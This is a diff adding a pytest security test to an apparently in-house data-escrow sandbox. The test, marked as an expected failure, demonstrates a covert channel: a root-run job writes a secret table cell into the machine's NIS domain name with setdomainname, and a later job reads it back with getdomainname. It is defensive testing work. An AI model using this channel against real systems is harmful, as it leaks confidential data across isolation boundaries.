@@ -128,3 +128,69 @@ def test_no_trust_a_container_cannot_signal_data_to_a_concurrent_container_throu
         assert SECRET_TEXT[:8] not in leaked, leaked
     finally:
         sc.close()
+
+
+# -- 2. full trust, escrow run as root: the child keeps root's capabilities ----------------------
+
+UTS_FUNCS = '''
+import ctypes
+
+
+def leave(t) -> int:
+    """Returns the row count; leaves a cell in the machine's NIS domain name (setdomainname)."""
+    libc = ctypes.CDLL(None, use_errno=True)
+    cell = str(t.iloc[0]["name"]).encode()
+    libc.setdomainname(cell, len(cell))
+    return len(t)
+
+
+def pick_up(d) -> str:
+    """mallory's own contract, later: reads the domain name back (uname: no privilege needed)."""
+    libc = ctypes.CDLL(None, use_errno=True)
+    buf = ctypes.create_string_buffer(65)
+    libc.getdomainname(buf, 65)
+    return buf.value.decode("latin1")
+'''
+
+UTS_DSC = '''use "f.py"
+agent alice
+agent mallory
+data alice.t csv "t.csv"
+data mallory.d csv "d.csv"
+
+contract count_rows { by mallory compute leave(t = alice.t) to alice }
+contract mine       { by mallory compute pick_up(d = mallory.d) to mallory }
+'''
+
+
+@pytest.mark.xfail(strict=True, reason="HOLE: a full-trust child of a root escrow keeps CAP_SYS_ADMIN: setdomainname/sethostname")
+def test_a_later_job_cannot_read_what_an_earlier_job_left_in_the_machines_names(tmp_path):
+    """The escrow runs as root (as on this machine, and in round 5's tests); nothing in the docs
+    forbids it. Its full-trust child keeps root's capabilities (capget: all but CAP_SYS_RESOURCE)
+    and its seccomp filter allows `sethostname`/`setdomainname` (also `swapoff`, `acct`, negative
+    nice, `setuid`...). mallory's `count_rows` over alice's table (released to alice only; alice
+    approves and runs it) writes a cell into the machine's domain name through the C library;
+    mallory's own later contract `mine` (her data, her approval) reads it back with
+    `getdomainname()` and releases it to herself. Impact: any job leaves data for any later job
+    (and every process of the machine sees it; `sethostname` renames the machine itself), the H9/
+    H12 channel through kernel state the filter was meant to close."""
+    import os
+
+    if os.geteuid() != 0:
+        pytest.skip("the attack needs an escrow running as root (the machine's names need CAP_SYS_ADMIN)")
+    before = open("/proc/sys/kernel/domainname").read().strip()
+    sc = Scenario(tmp_path, {"f.py": UTS_FUNCS, "s.dsc": UTS_DSC, "t.csv": SECRET_CSV, "d.csv": "x\n1\n"})
+    try:
+        w = sc.world
+        victim = w.propose("count_rows", "mallory")
+        w.approve(victim.id, "alice")
+        assert w.execute(victim.id, "alice").status.value in ("executed", "error", "short_circuit")
+        spy = w.propose("mine", "mallory")
+        w.approve(spy.id, "mallory")
+        w.execute(spy.id, "mallory")
+        leaked = _outbox_text(sc, "mallory")
+        assert SECRET_TEXT not in leaked, leaked
+    finally:
+        sc.close()
+        with open("/proc/sys/kernel/domainname", "w") as f:
+            f.write(before)
